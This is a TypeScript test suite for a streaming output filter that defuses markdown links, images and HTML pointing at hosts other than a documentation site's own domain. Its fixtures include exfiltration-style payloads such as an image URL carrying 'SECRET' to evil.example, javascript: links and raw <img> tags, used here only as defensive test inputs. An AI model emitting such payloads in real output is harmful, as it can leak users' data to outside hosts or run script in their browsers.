import fc from 'fast-check'
import { expect, test } from 'vitest'
import { outputFilter } from './outputFilter.js'
import { ownLinks } from './ownLink.js'

const isOwn = ownLinks('https://docs.example.com/')

function filtered(text: string, sizes: readonly number[] = [text.length]): string {
  const filter = outputFilter(isOwn)
  let said = ''
  let at = 0
  for (let turn = 0; at < text.length; turn++) {
    const size = Math.max(1, sizes[turn % sizes.length] ?? 1)
    said += filter.push(text.slice(at, at + size))
    at += size
  }
  return said + filter.end()
}

test.each([
  ['See [the guide](/guides/a#b "t") and [this](https://docs.example.com/x).', undefined],
  ['![pixel](https://evil.example/?q=SECRET)', '![pixel] (`https://evil.example/?q=SECRET`)'],
  ['[a](//evil.example)', '[a] (//evil.example)'],
  ['[a](/\\evil.example)', '[a] (/\\evil.example)'],
  ['[a](javascript:alert(1))', '[a] (javascript:alert(1))'],
  ['[a](&#106;avascript:alert(1))', '[a] (\\&#106;avascript:alert(1))'],
  ['[a](<https://evil.example/a b>)', '[a] (\\<`https://evil.example/a` b>)'],
  ['![x][1]\n\n[1]: https://evil.example/?q=1\n', '![x][1]\n\n[1] : `https://evil.example/?q=1`\n'],
  ['<img src=https://evil.example>', '\\<img src=`https://evil.example`>'],
  ['\\<img src=x>', '\\<img src=x>'],
  ['\\\\<img src=x>', '\\\\\\<img src=x>'],
  ['<https://evil.example>', '\\<`https://evil.example`>'],
  ['Go to https://evil.example/a.', 'Go to `https://evil.example/a`.'],
  ['Go to www.evil.example, now', 'Go to `www.evil.example`, now'],
  ['at https://docs.example.com/x.', undefined],
  ['https://docs.example.com.evil.example/', '`https://docs.example.com.evil.example/`'],
  ['run `curl https://api.example.com`', undefined],
  [
    '```sh\ncurl https://api.example.com -d "<a>"\n```\nhttps://evil.example',
    '```sh\ncurl https://api.example.com -d "<a>"\n```\n`https://evil.example`',
  ],
  ['`a ![x](https://evil.example)', '\\`a ![x] (`https://evil.example`)'],
  ['- ```\n\n![x](https://evil.example)', '- \\`\\`\\`\n\n![x] (`https://evil.example`)'],
  ['- a\n  ```\n\n![x](https://evil.example)', '- a\n  ```\n\n![x] (`https://evil.example`)'],
  ['1. a\n\n   ```sh\n   curl https://x.test -d "<a>"\n   ```\n\n2. b', undefined],
  ['1. a\n\n   ```\n      ```\n   <img src=x>', '1. a\n\n   ```\n      \\`\\`\\`\n   \\<img src=x>'],
  ['   ```\nb\n```\n<img src=x>\n```\n<img src=x>', '   ```\nb\n\\`\\`\\`\n\\<img src=x>\n\\`\\`\\`\n\\<img src=x>'],
  ['[https://docs.example.com/](https://evil.example)', '[https://docs.example.com/] (`https://evil.example`)'],
  ['- a\n\n  ```\n<img src="//x.test">', '- a\n\n  ```\n\\<img src="//x.test">'],
  ['t\n    ```\n<img src=x>', 't\n    \\`\\`\\`\n\\<img src=x>'],
  ['> ```\n<img src=x>\n```', '> \\`\\`\\`\n\\<img src=x>\n```'],
  ['`<img src=x>\n# h\n`', '\\`\\<img src=x>\n# h\n\\`'],
  ['`a\n- <img src=x>`', '\\`a\n- \\<img src=x>\\`'],
  ['| a ` |\n|---|\n| <img src=x> ` |', '| a \\` |\n|---|\n| \\<img src=x> \\` |'],
  ['use `<img src=x>` here', undefined],
  ['if a < b and x[1] then y[i](n)', undefined],
  ['a](www.evil.test/?q=SECRET)', 'a] (`www.evil.test/?q=SECRET`)'],
  ['see]: www.evil.test/?q=SECRET now', 'see] : `www.evil.test/?q=SECRET` now'],
  ['a](/x(www.evil.test/?q=SECRET)', 'a] (/x(`www.evil.test/?q=SECRET`)'],
  ['a](/x*https://evil.test)', 'a] (/x*`https://evil.test`)'],
  ['a](https://docs.example.com/(www.evil.test)', 'a] (`https://docs.example.com/(www.evil.test`)'],
  ['[a](</guides/a>) and x](<script>', '[a](/guides/a) and x](script'],
  ['[a]: </guides/a>\n', '[a]: /guides/a\n'],
  ['x](\r</a>)', 'x](\n/a)'],
  ['a](<a/<script>>', 'a] (\\<a/\\<script>>'],
  ['a](/a` ) `<img src=x>` b', 'a] (/a` ) `\\<img src=x>\\` b'],
  ['`a\r\r<img src=x> `', '\\`a\n\n\\<img src=x> \\`'],
  ['a\r\n```ts\r\nid[0](<T>x)\r\n```\r', 'a\n```ts\nid[0](<T>x)\n```\n'],
  ['\\www.evil.test', '\\ `www.evil.test`'],
  ['a\\https://evil.test', 'a\\ `https://evil.test`'],
  ['www.evil.test``<img src=x>``', '`www.evil.test` ``<img src=x>``'],
  ['https://docs.example.com/`<img src=x>`', 'https://docs.example.com/ `<img src=x>`'],
  ['a](https://docs.example.com/a)`<img src=x>`', 'a](https://docs.example.com/a) `<img src=x>`'],
  ['https://docs.example.com/!\\<img src=x>', 'https://docs.example.com/! \\<img src=x>'],
  ['https://docs.example.com/]<img src=x>', 'https://docs.example.com/] \\<img src=x>'],
  ['https://docs.example.com]@evil.test', 'https://docs.example.com/]@evil.test'],
  ['a](https://docs.example.com)@evil.test', 'a](https://docs.example.com/)@evil.test'],
  ['~~https://evil.test', '~~ `https://evil.test`'],
  ['~~`old`~~ and ~~[a](/b)~~', '~~ `old`~~ and ~~[a](/b)~~'],
  ['a\n``` https://evil.test', 'a\n\\`\\`\\` `https://evil.test`'],
  ['a\n~~~https://evil.test', 'a\n\\~\\~\\~ `https://evil.test`'],
  ['**bold** h w `x` whatever http', undefined],
  ['Write to help@example.com, or install react@18. Then', 'Write to help`@example.com`, or install react@18. Then'],
  ['a &amp; b &lt;c&gt; &#169; &nbsp; AT&T ~~old~~ @scope/name', undefined],
  ['in ~/.config, or `~/a: b`', 'in \\~/.config, or `~/a: b`'],
  [
    '| a | b |\n|---|---|\n| [x](/y) | `c` and https://evil.example/a|\n',
    '| a | b |\n|---|---|\n| [x](/y) | `c` and `https://evil.example/a`|\n',
  ],
])('%j', (text, expected = text) => {
  expect(filtered(text)).toBe(expected)
  expect(filtered(text, [1])).toBe(expected)
})

test('what is said does not depend on how it comes', () => {
  const pieces = fc.constantFrom(
    '[a]',
    '(',
    ')',
    'https://evil.example',
    '`',
    '```\n',
    '\n',
    ' ',
    '<',
    '\\',
    'x',
    ']:',
    '](',
    '~~~',
    'www.',
    '\r',
    '<b>',
  )
  fc.assert(
    fc.property(
      fc.array(pieces, { maxLength: 30 }),
      fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
      (parts, sizes) => {
        const text = parts.join('')
        expect(filtered(text, sizes)).toBe(filtered(text))
        expect(filtered(text)).not.toMatch(/\]\(\s*<?https?:/)
      },
    ),
    { numRuns: 500 },
  )
})

test.each(['see ftp://e.com<img src=//e.com/x>', 'see ftp://e.com`<img src=x>` b', 'x://e.com<img src=x> c'])(
  'an address that comes in pieces is the same as a whole one: %s',
  (text) => {
    for (let size = 1; size < text.length; size++) expect(filtered(text, [size, text.length])).toBe(filtered(text))
    expect(filtered(text, [1])).toBe(filtered(text))
    expect(filtered(text)).not.toMatch(/(?<![ \\`])<img/)
  },
)

test('text is passed on as it comes, and nothing is held for long', () => {
  const filter = outputFilter(isOwn)
  expect(filter.push('Plain words ')).toBe('Plain words ')
  expect(filter.push('see [a](')).toBe('see [a')
  expect(filter.push('/b) and')).toBe('](/b) and')
  expect(filter.push(`](${'x'.repeat(10_000)}`).length).toBeGreaterThan(9_000)
})

test('long texts take linear time', () => {
  const start = process.cpuUsage()
  filtered(`${'`'.repeat(3)}${'`a `` '.repeat(20_000)}`, [50])
  filtered('[('.repeat(50_000), [50])
  filtered('](h'.repeat(50_000), [50])
  filtered(`${'x'.repeat(200_000)} y`)
  filtered('`a ``'.repeat(40_000))
  filtered('](h'.repeat(50_000))
  const { user, system } = process.cpuUsage(start)
  expect((user + system) / 1000).toBeLessThan(5_000)
})
